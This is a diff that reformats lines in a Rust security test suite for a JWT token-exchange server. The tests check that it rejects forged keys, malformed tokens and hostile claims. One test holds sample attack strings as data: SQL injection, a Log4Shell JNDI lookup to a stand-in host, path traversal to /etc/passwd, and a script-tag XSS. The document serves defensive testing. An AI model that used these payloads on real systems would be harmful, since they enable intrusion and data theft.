@@ -285,7 +285,12 @@ async fn atk_019__keys_for_something_else_are_not_used() {
         jwk[name] = value;
         jwk
     };
-    for jwk in [changed("use", json!("enc")), changed("key_ops", json!(["encrypt"])), changed("alg", json!("ES256")), changed("alg", json!("RSA-OAEP"))] {
+    for jwk in [
+        changed("use", json!("enc")),
+        changed("key_ops", json!(["encrypt"])),
+        changed("alg", json!("ES256")),
+        changed("alg", json!("RSA-OAEP")),
+    ] {
         let world = publishing(&[jwk]).await;
         world.denies(&key.sign(&world.claims().value()), "key_unknown").await;
     }
@@ -349,7 +354,8 @@ async fn rfc8725_3_4_1__key_material_is_validated() {
 #[tokio::test]
 async fn atk_021__secrets_in_a_key_set_are_ignored() {
     let secret = b"0123456789abcdef0123456789abcdef";
-    let world = publishing(&[json!({ "kty": "oct", "kid": "oct", "k": carnet_jose::base64url(secret), "alg": "HS256" })]).await;
+    let world =
+        publishing(&[json!({ "kty": "oct", "kid": "oct", "k": carnet_jose::base64url(secret), "alg": "HS256" })]).await;
     let header = json!({ "alg": "HS256", "kid": "oct" });
     world.denies(&TestKey::hmac(secret, &header, &world.claims().value()), "alg_denied").await;
     let header = json!({ "alg": "RS256", "kid": "oct" });
@@ -505,7 +511,9 @@ async fn atk_025__a_doubled_claim_is_refused_in_both_orders() {
 async fn rfc7519_4_1__claims_do_not_repeat_at_any_depth() {
     let world = World::new().await;
     let good = payload(&world);
-    for extra in [r#""aud":"https://as.test""#, r#""kubernetes.io":{"namespace":"a","namespace":"b"}"#, r#""x":[{"a":1,"a":1}]"#] {
+    for extra in
+        [r#""aud":"https://as.test""#, r#""kubernetes.io":{"namespace":"a","namespace":"b"}"#, r#""x":[{"a":1,"a":1}]"#]
+    {
         let text = format!("{},{extra}}}", &good[..good.len() - 1]);
         world.denies(&with_payload(&world, text), "claim_duplicate").await;
     }
@@ -554,7 +562,14 @@ async fn rfc7515_5_2_3__header_and_claims_are_json_objects_and_nothing_after() {
     let world = World::new().await;
     let good = payload(&world);
     let open = &good[..good.len() - 1];
-    for text in [format!("{good} x"), format!("{open},}}"), format!("{open},\"x\":NaN}}"), format!("/**/{good}"), format!("{open},\"x\":01}}"), format!("{open},'x':1}}")] {
+    for text in [
+        format!("{good} x"),
+        format!("{open},}}"),
+        format!("{open},\"x\":NaN}}"),
+        format!("/**/{good}"),
+        format!("{open},\"x\":01}}"),
+        format!("{open},'x':1}}"),
+    ] {
         world.denies(&with_payload(&world, text), "assertion_malformed").await;
     }
     for header in ["{\"alg\":\"RS256\",\"kid\":\"rsa-0\"}x", "[]", "\"RS256\"", "{}", "{\"alg\":7}"] {
@@ -568,7 +583,8 @@ async fn atk_029__control_characters_are_refused() {
     for text in ["a\u{0}", "a\nb", "\u{7f}", "a\u{85}"] {
         world.denies_claims(world.claims().with("sub", text), "claim_malformed").await;
         world.denies_claims(world.claims().with("jti", text), "claim_malformed").await;
-        let answer = world.exchange_claims(&world.claims().with("repository", format!("octo-org/octo-repo{text}"))).await;
+        let answer =
+            world.exchange_claims(&world.claims().with("repository", format!("octo-org/octo-repo{text}"))).await;
         assert_eq!((answer.status, &answer.json()["error"]), (400, &json!("invalid_grant")));
     }
 }
@@ -635,7 +651,8 @@ async fn atk_033__password_based_encryption_is_never_tried() {
 async fn rfc8725bis_3_13_1__costly_headers_never_reach_code() {
     let world = World::new().await;
     for change in [json!({ "p2c": 2_147_483_647u32, "alg": "PBES2-HS256+A128KW" }), json!({ "zip": "DEF" })] {
-        let token = with_header(&world, |header| header.as_object_mut().unwrap().extend(change.as_object().unwrap().clone()));
+        let token =
+            with_header(&world, |header| header.as_object_mut().unwrap().extend(change.as_object().unwrap().clone()));
         let answer = world.exchange(&token).await;
         assert_eq!((answer.status, &answer.json()["error"]), (400, &json!("invalid_grant")));
     }
@@ -660,7 +677,12 @@ async fn atk_034__json_serialisations_are_refused() {
 async fn rfc8725bis_3_14_1__only_the_alphabet_of_compact_tokens_is_read() {
     let world = World::new().await;
     let token = world.good();
-    for text in [format!("{{\"payload\":\"{token}\"}}"), format!("{token}\u{e9}"), format!("~{token}"), token.replacen('.', "/", 1)] {
+    for text in [
+        format!("{{\"payload\":\"{token}\"}}"),
+        format!("{token}\u{e9}"),
+        format!("~{token}"),
+        token.replacen('.', "/", 1),
+    ] {
         world.denies(&text, "assertion_malformed").await;
     }
 }
@@ -742,7 +764,8 @@ async fn atk_037__the_payload_is_an_object() {
 #[tokio::test]
 async fn atk_038__names_that_mean_something_elsewhere_are_inert() {
     let world = World::new().await;
-    let claims = world.claims().with("__proto__", json!({ "admin": true })).with("constructor", "x").with("toString", 1);
+    let claims =
+        world.claims().with("__proto__", json!({ "admin": true })).with("constructor", "x").with("toString", 1);
     world.exchange_claims(&claims).await.token();
 }
 
@@ -779,7 +802,13 @@ async fn rfc7519_4_1_4_1__times_are_numbers() {
 #[tokio::test]
 async fn rfc8725_3_10_1__claims_are_hostile_input() {
     let world = World::new().await;
-    for text in ["'; DROP TABLE principal; --", "${jndi:ldap://evil.test}", "%s%n", "../../etc/passwd", "<script>alert(1)</script>"] {
+    for text in [
+        "'; DROP TABLE principal; --",
+        "${jndi:ldap://evil.test}",
+        "%s%n",
+        "../../etc/passwd",
+        "<script>alert(1)</script>",
+    ] {
         let claims = world.claims().with("run_id", text).with("actor", text).with("sub", text);
         let token = world.exchange_claims(&claims).await.token();
         assert_eq!(super::assertion::payload(&token)["workload"]["sub"], text);
@@ -801,7 +830,8 @@ async fn rfc8725_3_12_1__each_kind_of_token_has_its_own_place() {
         assert_eq!((answer.status, &answer.json()["error"]), (400, &json!("invalid_grant")));
     }
     for other in [&token, &world.good()] {
-        let request = axum::http::Request::get("/admin/v1/principals").header("authorization", format!("Bearer {other}"));
+        let request =
+            axum::http::Request::get("/admin/v1/principals").header("authorization", format!("Bearer {other}"));
         let answer = world.server.send(request.body(axum::body::Body::empty()).unwrap()).await;
         assert_eq!(answer.status, 401, "{}", answer.text());
     }
